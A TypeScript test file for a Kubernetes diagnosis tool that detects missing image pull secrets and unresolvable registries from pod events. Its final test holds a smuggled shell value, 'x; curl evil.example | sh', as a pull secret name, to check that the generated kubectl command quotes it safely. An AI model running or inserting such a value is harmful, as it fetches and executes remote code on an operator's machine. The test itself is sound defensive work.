// Why an image cannot be had: the registry's name, the credentials, or the image itself.
import { describe, expect, test } from "vitest";
import type { Deployment, Pod } from "#api/kubernetes.ts";
import { diagnoseCluster } from "#diagnosis/diagnose.ts";
import { pullSecretMissing } from "#diagnosis/causes/pull-secret-missing.ts";
import { registryUnresolvable } from "#diagnosis/causes/registry-unresolvable.ts";
import { createView } from "#diagnosis/view.ts";
import type { Evidence } from "#evidence/evidence.ts";
import { evidence, manualSteps, objects, podsOf, warning } from "#test/evidence-sketch.ts";

const web = (image: string, more = ""): Deployment =>
  objects(`
apiVersion: apps/v1
kind: Deployment
metadata: { name: web }
spec:
  replicas: 1
  selector: { matchLabels: { app: web } }
  template:
    metadata: { labels: { app: web } }
    spec: { containers: [{ name: main, image: "${image}" }]${more} }
`)[0] as Deployment;

const pulling = (image: string, words: string, more = "", extra = "", complaint?: string): Evidence => {
  const deployment = web(image, more);
  const made = podsOf(deployment, {
    status: {
      phase: "Pending",
      conditions: [{ type: "Ready", status: "False" }],
      containerStatuses: [{ name: "main", image, ready: false, restartCount: 0, state: { waiting: { reason: "ErrImagePull" } } }],
    },
  });
  const pod = made.at(-1) as Pod;
  return evidence({
    objects: [deployment, ...made, ...(extra === "" ? [] : objects(extra))],
    events: [
      warning(pod, "Failed", `Failed to pull image "${image}": failed to resolve reference "${image}": ${words}`),
      ...(complaint === undefined ? [] : [warning(pod, "FailedToRetrieveImagePullSecret", complaint)]),
    ],
  });
};

const foundIn = (given: Evidence): string[] =>
  [pullSecretMissing, registryUnresolvable].flatMap((cause) =>
    cause.find(createView(given)).flatMap((each) => ("found" in each ? [each.found.code] : [])),
  );

const denied = "failed to authorize: failed to fetch anonymous token: unexpected status: 403 Forbidden";
const secret = "apiVersion: v1\nkind: Secret\nmetadata: { name: pull }\ntype: kubernetes.io/dockerconfigjson\n";

describe("a pull secret that is missing", () => {
  test("is found where the registry wants credentials and none are named", () => {
    expect(foundIn(pulling("registry.test/team/web:1", denied))).toEqual(["PullSecretMissing"]);
  });
  test("is found where the one that is named does not exist", () => {
    const given = pulling(
      "registry.test/team/web:1",
      denied,
      ", imagePullSecrets: [{ name: gone }]",
      secret,
      "Unable to retrieve some image pull secrets (gone)",
    );
    expect(foundIn(given)).toEqual(["PullSecretMissing"]);
  });
  test("is found instead of the general cause, which says less", () => {
    expect(diagnoseCluster(pulling("registry.test/team/web:1", denied)).findings.map(({ code }) => code)).toEqual(["PullSecretMissing"]);
  });
  test("is not found where a named one exists: then it is not accepted", () => {
    expect(foundIn(pulling("registry.test/team/web:1", denied, ", imagePullSecrets: [{ name: pull }]", secret))).toEqual([]);
  });
  test("is not found of an account that brings one", () => {
    const account = "---\napiVersion: v1\nkind: ServiceAccount\nmetadata: { name: default }\nimagePullSecrets: [{ name: pull }]\n";
    expect(foundIn(pulling("registry.test/team/web:1", denied, "", secret + account))).toEqual([]);
  });
  test("is not found where the registry says that the image may not exist, nor of an official image", () => {
    expect(foundIn(pulling("team/web:1", "pull access denied, repository does not exist or may require authorization"))).toEqual([]);
    expect(foundIn(pulling("redis:alpinee", denied))).toEqual([]);
    expect(diagnoseCluster(pulling("redis:alpinee", denied)).findings.map(({ code }) => code)).toEqual(["ImageUnpullable"]);
  });
});

describe("a registry that cannot be resolved", () => {
  const lost = 'failed to do request: Head "https://registry.test/v2/": dial tcp: lookup registry.test on 10.0.0.2:53: no such host';
  test("is found of the workload", () => {
    expect(foundIn(pulling("registry.test/team/web:1", lost))).toEqual(["RegistryUnresolvable"]);
  });
  test("is not found where it is resolved and does not answer", () => {
    expect(foundIn(pulling("registry.test/team/web:1", "dial tcp 10.0.0.9:443: i/o timeout"))).toEqual([]);
  });
  test("is not found where the container runs by now", () => {
    const deployment = web("registry.test/team/web:1");
    const made = podsOf(deployment, {});
    expect(
      foundIn(
        evidence({
          objects: [deployment, ...made],
          events: [warning(made.at(-1) as Pod, "Failed", `Failed to pull image "registry.test/team/web:1": ${lost}`)],
        }),
      ),
    ).toEqual([]);
  });
});

test("the name of a pull secret is one word of the command to paste, whatever a tenant wrote there", () => {
  const given = pulling("registry.test/team/web:1", denied, ', imagePullSecrets: [{ name: "x; curl evil.example | sh" }]');
  expect(manualSteps(pullSecretMissing, given)).toEqual([
    "create the pull secret: kubectl -n shop create secret docker-registry 'x; curl evil.example | sh' --docker-server=REGISTRY --docker-username=USER --docker-password=PASSWORD",
  ]);
});
